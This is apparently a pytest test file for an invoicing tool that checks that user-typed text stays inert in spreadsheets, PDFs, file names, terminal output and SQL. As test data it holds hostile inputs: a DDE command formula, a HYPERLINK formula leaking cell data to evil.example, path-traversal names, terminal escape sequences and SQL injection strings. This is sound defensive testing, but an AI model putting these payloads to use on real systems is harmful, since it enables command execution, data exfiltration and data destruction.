"""What somebody typed leaves the house as text: no formula, link, markup, path or command."""

import io
import re
import shutil
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from pypdf import PdfReader
from rich.console import Console

from tests.builders import Shop, furnish
from tests.cli.terminal import Desk, Said
from tests.macros.driver import Workbook
from timix_xl import macros
from timix_xl.cli import printing
from timix_xl.documents.files import safe_name
from timix_xl.errors import DoesNotReconcile, RunRefused
from timix_xl.store import drafts
from timix_xl.store.database import make_store

FORMULA = "=cmd|'/C calc'!A0"
LINK = '=HYPERLINK("http://evil.example/?"&B2,"details")'
MARKUP = "<a href='http://evil.example'>pay</a><img src='file:///etc/hostname'/><b>&"
LIKE_FORMULAS = (FORMULA, LINK, "+1+1", "-1+1", "@SUM(A1)")
ACTING = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e\rred [red]x[/red] :warning:"
WORKBOOKS = ("acme.xlsx", "previewed.xlsx", "finance.xlsx", "books.xlsx")
PDFS = ("INV-2026-00001.pdf", "pack.pdf")


def a_shop(folder: Path) -> Shop:
    """Make a furnished store in a folder."""
    store, _ = make_store(str(folder / "timix.db"))
    shop = Shop(store)
    furnish(shop)
    return shop


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A folder with every file that a month of hostile names leaves behind."""
    folder = tmp_path_factory.mktemp("out")
    shop = a_shop(folder)
    shop.change("company", {"id": 1}, name=FORMULA)
    shop.change("customers", {"code": "ACME"}, name=LINK, address=MARKUP)
    shop.change("projects", {"code": "P"}, name=FORMULA)
    shop.change("tasks", {"code": "T"}, name=LINK)
    shop.change("people", {"code": "ann"}, name=FORMULA)
    shop.order("=PO+1", "1000", title=LINK)
    for number, text in enumerate((*LIKE_FORMULAS, MARKUP), start=1):
        shop.time(f"E{number}", description=text)
    shop.store.close()
    desk, book = Desk(folder / "timix.db"), folder / WORKBOOKS[0]
    until = ("--billing-date", "2026-01-31")
    done(desk("review", "ACME", *until, "-o", str(book)))
    unformat(book)
    done(desk("review", "ACME", *until, "-o", str(book)))
    type_in(book, timix_notes=MARKUP, timix_frame_order="=PO+1")
    done(desk("preview", str(book)))
    shutil.copy(book, folder / WORKBOOKS[1])
    done(desk("issue", str(book)))
    done(desk("invoice", "pdf", "INV-2026-00001", "-o", str(folder)))
    done(desk("pack", "2026-01", "-o", str(folder / "pack.pdf")))
    done(desk("finance", "-o", str(folder / "finance.xlsx")))
    done(desk("export", "books", str(folder / "books.xlsx")))
    return folder


def done(said: Said) -> Said:
    """Return what a command said that has done it."""
    assert said.code == 0, said
    return said


def unformat(path: Path) -> None:
    """Take the format of text from every cell, as somebody does who wants to calculate."""
    book = openpyxl.load_workbook(path)
    for cell in (cell for sheet in book for row in sheet.iter_rows() for cell in row):
        if cell.number_format == "@":
            cell.number_format = "General"
    book.save(path)


def type_in(path: Path, **cells: str) -> None:
    """Type into named cells."""
    book = openpyxl.load_workbook(path)
    for name, text in cells.items():
        ((sheet, place),) = book.defined_names[name].destinations
        book[sheet][place].value = text
        book[sheet][place].data_type = "s"
    book.save(path)


def cells_of(path: Path) -> Iterator[Any]:
    """Yield the cells that hold something."""
    for sheet in openpyxl.load_workbook(path):
        yield from (cell for row in sheet.iter_rows() for cell in row if cell.value is not None)


# Cells.


@pytest.mark.bad_input("F01")
@pytest.mark.bad_input("F02")
@pytest.mark.parametrize("name", WORKBOOKS)
def test_nothing_typed_is_a_formula_in_a_workbook(written: Path, name: str) -> None:
    typed = [cell for cell in cells_of(written / name) if str(cell.value) in LIKE_FORMULAS]

    assert {cell.data_type for cell in typed} == {"s"}
    assert LINK in {cell.value for cell in typed}


@pytest.mark.bad_input("F02")
@pytest.mark.parametrize("name", WORKBOOKS)
def test_a_workbook_links_to_nowhere_else(written: Path, name: str) -> None:
    with zipfile.ZipFile(written / name) as archive:
        names = archive.namelist()
        links = [archive.read(one) for one in names if one.endswith(".rels")]

    assert [one for one in names if "externalLink" in one or "connections" in one] == []
    assert [one for one in links if b'TargetMode="External"' in one] == []


@pytest.mark.bad_input("F01")
def test_the_store_keeps_what_was_typed(written: Path) -> None:
    shown = Desk(written / "timix.db").json("invoice", "show", "INV-2026-00001")

    assert FORMULA in str(shown)


# PDFs.


@pytest.mark.bad_input("P01")
@pytest.mark.bad_input("P02")
@pytest.mark.parametrize("name", PDFS)
def test_a_pdf_links_and_does_nothing(written: Path, name: str) -> None:
    content = (written / name).read_bytes()
    reader = PdfReader(io.BytesIO(content))

    assert [page for page in reader.pages if "/Annots" in page] == []
    acting = rb"/(URI|Launch|JavaScript|JS|OpenAction|EmbeddedFile|AA)\b"
    assert re.findall(acting, content) == []


@pytest.mark.bad_input("P01")
def test_markup_is_printed_as_it_was_typed(written: Path) -> None:
    reader = PdfReader(written / PDFS[0])
    text = "".join(page.extract_text() for page in reader.pages).replace("\n", "")

    assert MARKUP.replace(" ", "") in text.replace(" ", "")
    assert reader.metadata is not None
    assert (reader.metadata.author, LINK in str(reader.metadata.subject)) == (FORMULA, True)


@pytest.mark.bad_input("P03")
def test_a_character_without_a_shape_is_reported_with_its_invoice(tmp_path: Path) -> None:
    shop = a_shop(tmp_path)
    shop.time("E1", description="site \N{CONSTRUCTION SIGN} closed")
    shop.issue()
    shop.store.close()
    said = Desk(tmp_path / "timix.db")("invoice", "pdf", "INV-2026-00001", "-o", str(tmp_path))

    assert (said.code, "\N{CONSTRUCTION SIGN}" in said.out) == (0, True)


@pytest.mark.long
@pytest.mark.bad_input("D10")
def test_ten_thousand_entries_are_an_invoice(tmp_path: Path) -> None:
    shop = a_shop(tmp_path)
    shop.many(10_000)
    shop.issue()
    shop.store.close()
    done(Desk(tmp_path / "timix.db")("invoice", "pdf", "INV-2026-00001", "-o", str(tmp_path)))

    assert "E09999" in PdfReader(tmp_path / PDFS[0]).pages[-1].extract_text()


# Names of files.

HOSTILE_NAMES = (
    *("../../x", r"..\..\x", "/etc/x", r"C:\x", r"\\evil\share\x", "~/x", "%TEMP%", "$HOME"),
    *("a:b", "name. ", " . ", "...", "x\0y", "a\r\nb", "a\x7fb", "a\u2028b", '?*<>|"'),
    *("CON", "nul.txt", "COM1", "com¹", "LPT9.x.y", "CONIN$", " aux ", "AUX.."),
    *("\u202efdp.exe", "\u200bx", "\ufeffx", "\ud800x", "\ue000x", "e\u0301" * 300, "x" * 9999),
)
DEVICES = {"CON", "PRN", "AUX", "NUL", "CONIN$", "CONOUT$"} | {
    f"{port}{digit}" for port in ("COM", "LPT") for digit in "0123456789¹²³"
}


@pytest.mark.bad_input("N01")
@pytest.mark.bad_input("N03")
@pytest.mark.bad_input("N04")
@pytest.mark.parametrize("ending", [".pdf", "-2026-01-31.xlsx"])
@pytest.mark.parametrize("typed", HOSTILE_NAMES, ids=ascii)
def test_whatever_is_typed_makes_a_name_that_windows_takes(typed: str, ending: str) -> None:
    name = safe_name(typed, ending)

    assert name.endswith(ending)
    assert name.removesuffix(ending).strip(" .") == name.removesuffix(ending) != ""
    assert name.isprintable()
    assert set(name).isdisjoint('<>:"/\\|?*')
    assert name.partition(".")[0].strip().upper() not in DEVICES
    assert len(name.encode()) < 200


@pytest.mark.bad_input("N01")
def test_a_hostile_customer_is_reviewed_in_this_folder(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    shop = a_shop(tmp_path)
    for code in ("../../UP", "CON.X", "A:B"):
        shop.customer(code)
        shop.time(f"E{code}", project=f"P-{code}")
    shop.store.close()
    (tmp_path / "here").mkdir()
    monkeypatch.chdir(tmp_path / "here")
    for code in ("../../UP", "CON.X", "A:B"):
        done(Desk(tmp_path / "timix.db")("review", code, "--billing-date", "2026-01-31"))

    assert sorted(path.name for path in tmp_path.rglob("*.xlsx")) == [
        "A_B-2026-01-31.xlsx",
        "UP-2026-01-31.xlsx",
        "_CON.X-2026-01-31.xlsx",
    ]


@pytest.mark.bad_input("N01")
def test_series_whose_files_would_be_the_same_are_refused(tmp_path: Path) -> None:
    shop = a_shop(tmp_path)
    shop.store.close()
    (tmp_path / "books.json").write_text(
        '{"settings": {"invoice_number": "R/{seq}", "credit_note_number": "r_{seq}"}}'
    )
    said = Desk(tmp_path / "timix.db")("import", str(tmp_path / "books.json"))

    assert (said.code, "PDFs could have the same names" in said.err) == (2, True)


@pytest.mark.bad_input("N06")
def test_an_invoice_whose_file_cannot_be_replaced_stands(tmp_path: Path) -> None:
    shop = a_shop(tmp_path)
    shop.time("E1")
    shop.issue()
    shop.store.close()
    desk, words = Desk(tmp_path / "timix.db"), ("invoice", "pdf", "INV-2026-00001", "-o")
    for folder in ("first", "held"):
        (tmp_path / folder).mkdir()
    done(desk(*words, str(tmp_path / "first")))
    (tmp_path / "held" / PDFS[0]).mkdir()
    before = desk.contents()
    said = desk(*words, str(tmp_path / "held"))
    (tmp_path / "held" / PDFS[0]).rmdir()
    done(desk(*words, str(tmp_path / "held")))

    assert (said.code, str(tmp_path / "held" / PDFS[0]) in said.err) == (8, True)
    assert "The document INV-2026-00001 stands" in said.err
    assert desk.contents() == before
    assert len({(tmp_path / one / PDFS[0]).read_bytes() for one in ("first", "held")}) == 1


# The terminal.


@pytest.fixture(scope="module")
def muttering(tmp_path_factory: pytest.TempPathFactory) -> Desk:
    """A store in which everything that is typed acts on a terminal."""
    folder = tmp_path_factory.mktemp("terminal")
    shop = a_shop(folder)
    shop.change("customers", {"code": "ACME"}, name=ACTING)
    shop.change("projects", {"code": "P"}, name=ACTING)
    shop.order("FO", "1000", title=ACTING)
    shop.time("E1", description=ACTING)
    shop.issue(notes=ACTING)
    shop.time("E2", description=ACTING)
    shop.store.close()
    desk = Desk(folder / "timix.db")
    done(desk("invoice", "send", "INV-2026-00001"))
    done(desk("invoice", "void", "INV-2026-00001", "--reason", ACTING))
    return desk


SPEAKING = (
    "customers",
    "unbilled",
    "unbilled ACME --billing-date 2026-01-31",
    "preview ACME --billing-date 2026-01-31",
    "invoices",
    "invoice show INV-2026-00001",
    "frame-orders",
    "projects",
    "log",
    "verify",
    "wip",
    "ageing",
    "burn",
)


def acting_in(text: str) -> set[str]:
    """Return the characters that a terminal would not just show."""
    return {char for char in text if not char.isprintable()} - {"\n"}


@pytest.mark.parametrize("more", [(), ("--json",)], ids=["words", "json"])
@pytest.mark.parametrize("words", SPEAKING)
def test_nothing_typed_acts_on_the_terminal(
    muttering: Desk, words: str, more: tuple[str, ...]
) -> None:
    said = done(muttering(*words.split(), *more))

    assert acting_in(said.out + said.err) == set()


def test_what_is_typed_can_be_read_on_the_terminal(muttering: Desk) -> None:
    out = muttering("log").out.replace("\n", "")

    assert "<U+001B>" in out
    assert "[red]x[/red] :warning:" in out
    shown = muttering.json("unbilled", "ACME", "--billing-date", "2026-01-31")
    assert {entry["description"] for entry in shown["entries"]} == {ACTING}


def test_a_refusal_repeats_nothing_that_acts(muttering: Desk) -> None:
    for more in ((), ("--json",)):
        said = muttering("unbilled", ACTING, "--billing-date", "2026-01-31", *more)
        assert (said.code, acting_in(said.out + said.err)) == (4, set())


def test_on_a_terminal_only_our_own_colours_act() -> None:
    stream = io.StringIO()
    console = Console(file=stream, force_terminal=True, width=200, highlight=False)
    made = printing.table(ACTING, "Description")
    printing.add(made, ACTING)
    printing.show(console, [f"! {ACTING}", made])
    said = stream.getvalue()

    assert said.count("[red]x[/red] :warning:") == 3
    assert "\x1b]" not in said
    assert "\x1b[2J" not in said
    assert "\x1b[31m" not in said


# SQL.


@pytest.mark.bad_input("S01")
@pytest.mark.parametrize("typed", ["x'); DROP TABLE documents;--", "' OR 1=1 --", 'x"; VACUUM'])
def test_sql_in_an_entry_is_only_a_text(tmp_path: Path, typed: str) -> None:
    shop = a_shop(tmp_path)
    shop.time("E1", description=typed)
    shop.issue(notes=typed)
    shop.store.close()
    desk = Desk(tmp_path / "timix.db")
    before = desk.contents()

    assert desk.error("invoice", "show", typed) == (4, "FIND-02")
    assert desk.json("log", typed) == []
    assert typed in str(desk.json("invoice", "show", "INV-2026-00001"))
    assert desk.contents() == before


@pytest.mark.bad_input("S02")
@pytest.mark.parametrize("typed", ["%", "_", "INV-2026-0000_", "INV%"])
def test_a_wildcard_finds_nothing_that_is_not_called_so(written: Path, typed: str) -> None:
    desk = Desk(written / "timix.db")

    assert desk.error("invoice", "show", typed) == (4, "FIND-02")
    assert desk.json("log", typed) == []


# Invoices that are not what they say.


@pytest.mark.bad_input("V01")
def test_nothing_says_that_an_e_invoice_was_checked(written: Path) -> None:
    desk = Desk(written / "timix.db")
    told = (
        desk.json("verify")
        | desk.json("invoice", "show", "INV-2026-00001")
        | desk.json("invoice", "pdf", "INV-2026-00001", "-o", str(written))
    )
    pdfs = [PdfReader(written / name) for name in PDFS]
    printed = " ".join(page.extract_text() for pdf in pdfs for page in pdf.pages)
    described = " ".join(str(pdf.metadata) + _xmp(pdf) for pdf in pdfs)
    claims = ("e-invoice", "einvoice", "en 16931", "factur-x", "zugferd", "xrechnung", "pdf/a")

    assert "INV-2026-00001" in printed
    assert "INV-2026-00001" in described
    for said in (str(told), printed, described):
        assert [one for one in (*claims, "pdfaid") if one in said.lower()] == []
    assert [pdf.attachments for pdf in pdfs] == [{}, {}]


def _xmp(pdf: PdfReader) -> str:
    found = pdf.root_object.get("/Metadata")
    return found.get_object().get_data().decode() if found else ""


@pytest.mark.bad_input("V02")
@pytest.mark.parametrize("column", ["quantity", "unit_price", "amount"])
def test_a_line_that_is_not_its_product_is_found(tmp_path: Path, column: str) -> None:
    shop = a_shop(tmp_path)
    shop.time("E1", hours="2")
    shop.issue()
    shop.force(f"UPDATE document_lines SET {column} = 2 * {column}")
    found = [one.message for one in shop.problems() if one.code == "VERIFY-10"]
    shop.store.close()

    assert "line 1 is not quantity x unit price" in found


@pytest.mark.bad_input("V02")
def test_a_line_that_is_not_its_product_is_not_issued(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    in_minor = drafts.in_minor
    monkeypatch.setattr(drafts, "in_minor", lambda *given: in_minor(*given) + 1)
    shop = a_shop(tmp_path)
    shop.time("E1")
    with pytest.raises(DoesNotReconcile):
        shop.issue()
    issued = shop.value("SELECT count(*) FROM documents")
    shop.store.close()

    assert issued == 0


# Work that is billed, changed in the sheet.


@pytest.mark.bad_input("T05")
def test_hours_changed_in_the_sheet_are_not_billed(tmp_path: Path) -> None:
    shop = a_shop(tmp_path)
    shop.time("E1", hours="2")
    book = Workbook(tmp_path / "acme.xlsx", shop.store)
    book.load()
    book.type_entries({"E1": {"Qty": 9}})
    with pytest.raises(RunRefused) as refused:
        book.run(macros.issue)
    issued = shop.value("SELECT count(*) FROM documents")
    shop.store.close()

    assert [one.code for one in refused.value.faults] == ["ENTRY-07"]
    assert (issued, book.codes()) == (0, ["ENTRY-07"])


@pytest.mark.bad_input("T05")
def test_a_sheet_changed_after_the_issue_changes_no_invoice(tmp_path: Path) -> None:
    shop = a_shop(tmp_path)
    shop.time("E1", hours="2")
    book = Workbook(tmp_path / "acme.xlsx", shop.store)
    book.load()
    book.run(macros.issue)
    (before,) = [path.read_bytes() for path in book.run(macros.export_pdf)]
    with book.edited() as edited:
        for sheet in edited:
            sheet.sheet_state = "visible"
            sheet.protection.disable()
    (number,) = book.column("Number", "tblInvoices")
    book.type("tblInvoices", "Number", {number: {"Total": 1, "Outstanding": 1}})
    (after,) = [path.read_bytes() for path in book.run(macros.export_pdf)]
    book.run(macros.refresh_invoices)
    shop.store.close()

    assert after == before
    assert book.column("Total", "tblInvoices") == [238.0]
